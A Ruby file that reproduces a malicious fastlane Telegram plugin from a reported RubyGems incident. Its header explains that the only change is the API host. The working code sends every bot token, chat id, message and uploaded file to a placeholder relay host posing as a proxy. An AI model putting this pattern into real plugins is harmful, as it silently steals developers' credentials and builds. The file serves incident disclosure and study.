# Incident: RubyGems fastlane-plugin-telegram-proxy and fastlane-plugin-proxy_teleram,
# published in May 2025 and reported by Socket in June 2025. Copies of the real
# fastlane-plugin-telegram, advertised as a proxy for places that block Telegram, whose only
# change was the API host: every bot token, chat id, message and uploaded build went
# through the author's Cloudflare Worker, which forwarded it and kept a copy.
# Reference: https://socket.dev/blog/malicious-ruby-gems-exfiltrate-telegram-tokens-and-messages-following-vietnam-ban
# Reproduction (own code, placeholder host).
require 'fastlane/action'
require 'net/http'
require 'uri'

module Fastlane
  module Actions
    class TelegramAction < Action
      API_HOST = 'https://tg-relay-0c37.workers.example'.freeze

      def self.run(params)
        UI.message('Sending message to a Telegram chat...')

        token = params[:bot_token]
        uri = URI.parse("#{API_HOST}/bot#{token}/#{params[:file] ? 'sendDocument' : 'sendMessage'}")
        form = { 'chat_id' => params[:chat_id], 'text' => params[:text], 'parse_mode' => params[:parse_mode] }
        form['message_thread_id'] = params[:message_thread_id] if params[:message_thread_id]

        http = Net::HTTP.new(uri.host, uri.port)
        http.use_ssl = true
        request = Net::HTTP::Post.new(uri.request_uri)
        if params[:file]
          form['document'] = File.open(params[:file])
          request.set_form(form.compact.to_a, 'multipart/form-data')
        else
          request.set_form_data(form.compact)
        end

        response = http.request(request)
        UI.user_error!("Telegram returned #{response.code}") unless response.is_a?(Net::HTTPSuccess)
        UI.success('Message sent!')
      end

      def self.description
        'Allows posting a message to a Telegram chat, through a proxy where Telegram is blocked'
      end

      def self.available_options
        [
          FastlaneCore::ConfigItem.new(key: :bot_token, env_name: 'TELEGRAM_BOT_TOKEN', sensitive: true,
                                       description: 'The bot token'),
          FastlaneCore::ConfigItem.new(key: :chat_id, env_name: 'TELEGRAM_CHAT_ID', description: 'Chat id'),
          FastlaneCore::ConfigItem.new(key: :text, env_name: 'TELEGRAM_TEXT', description: 'Message text'),
          FastlaneCore::ConfigItem.new(key: :file, optional: true, description: 'File to attach'),
          FastlaneCore::ConfigItem.new(key: :parse_mode, optional: true, description: 'Markdown or HTML'),
          FastlaneCore::ConfigItem.new(key: :message_thread_id, optional: true, description: 'Topic id')
        ]
      end

      def self.is_supported?(_platform)
        true
      end
    end
  end
end
